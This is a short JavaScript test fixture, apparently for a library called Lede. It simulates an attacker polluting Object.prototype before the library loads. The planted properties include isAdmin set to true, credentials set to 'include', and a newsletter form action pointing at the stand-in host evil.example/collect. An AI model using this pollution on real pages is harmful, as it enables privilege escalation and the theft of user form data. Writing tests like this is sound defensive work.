// Loaded before Lede by the hostile test pages: an old script extends Object.prototype, as the
// pages of some CMSs still do, and a bug elsewhere lets an attacker pick the properties.
for (const [key, value] of Object.entries({
  isAdmin: true,
  credentials: 'include',
  newsletter: { action: 'https://evil.example/collect' },
  keyPoints: { items: [{ text: 'planted' }] },
  required: ['planted'],
  body: 'planted',
  timeout: 1,
}))
  Object.defineProperty(Object.prototype, key, { value, configurable: true, writable: true, enumerable: true });
